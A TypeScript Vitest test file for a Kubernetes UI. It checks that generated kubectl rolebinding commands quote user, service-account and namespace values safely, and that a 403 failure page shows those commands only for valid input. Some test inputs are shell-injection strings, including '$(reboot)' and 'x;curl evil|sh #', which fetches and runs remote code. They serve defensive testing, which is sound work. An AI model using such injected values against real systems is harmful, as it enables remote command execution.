import { createElement } from "react";
import { renderToStaticMarkup } from "react-dom/server";
import { describe, expect, it } from "vitest";

import { ApiError } from "../api/client.ts";
import { bindCommands } from "./access.ts";
import { SessionContext } from "./session.ts";
import { Failure } from "./states.tsx";

describe("the commands that give a role", () => {
  it("name a service account as such, and its own namespace where none is meant", () => {
    expect(bindCommands("recif-view", "system:serviceaccount:team:ada")).toEqual({
      one: "kubectl create rolebinding recif-view-team-ada --clusterrole=recif-view --serviceaccount=team:ada --namespace=team",
      all: "kubectl create clusterrolebinding recif-view-team-ada --clusterrole=recif-view --serviceaccount=team:ada",
    });
    expect(bindCommands("recif-view", "system:serviceaccount:team:ada", "shop").one).toMatch(/ --serviceaccount=team:ada --namespace=shop$/);
  });

  it.each([
    ["ada@example.com", "recif-view-ada-example.com", "--user=ada@example.com"],
    ["oidc#Ada O'Hara", "recif-view-oidc-Ada-O-Hara", String.raw`--user='oidc#Ada O'\''Hara'`],
    ["$(reboot)", "recif-view-reboot", "--user='$(reboot)'"],
  ])("give %s to a shell as one word", (user, name, subject) => {
    expect(bindCommands("recif-view", user).one).toBe(`kubectl create rolebinding ${name} --clusterrole=recif-view ${subject} --namespace=NAMESPACE`);
  });

  it("give the parts of a service account and a namespace to a shell as one word each", () => {
    expect(bindCommands("recif-view", "system:serviceaccount:team;reboot:ada").one).toBe(
      "kubectl create rolebinding recif-view-team-reboot-ada --clusterrole=recif-view --serviceaccount='team;reboot:ada' --namespace='team;reboot'",
    );
    expect(bindCommands("recif-view", "ada", "x;curl evil|sh #").one).toMatch(/ --user=ada --namespace='x;curl evil\|sh #'$/);
  });
});

it("a page that the user may not see shows the commands, and no other failure does", () => {
  const shown = (status: number, user: string | null, namespace = "shop"): string =>
    renderToStaticMarkup(
      createElement(
        SessionContext,
        { value: { me: { auth: "kubernetes", user }, signOut: () => undefined } },
        createElement(Failure, { error: new ApiError(status, "you cannot"), what: "this Agent", namespace }),
      ),
    ).replace(/<[^>]+>/g, "");
  expect(shown(403, "ada")).toContain("kubectl create rolebinding recif-view-ada --clusterrole=recif-view --user=ada --namespace=shop");
  expect(shown(403, "ada")).toContain("kubectl create clusterrolebinding recif-view-ada");
  expect(shown(404, "ada")).not.toContain("kubectl");
  expect(shown(403, null)).not.toContain("kubectl");
  expect(shown(403, "ada", "a".repeat(63))).toContain(`--namespace=${"a".repeat(63)}`);
  for (const namespace of ["x;curl evil|sh #", "Shop", "shop-", "-n", "", "a".repeat(64)]) expect(shown(403, "ada", namespace)).not.toContain("kubectl");
});
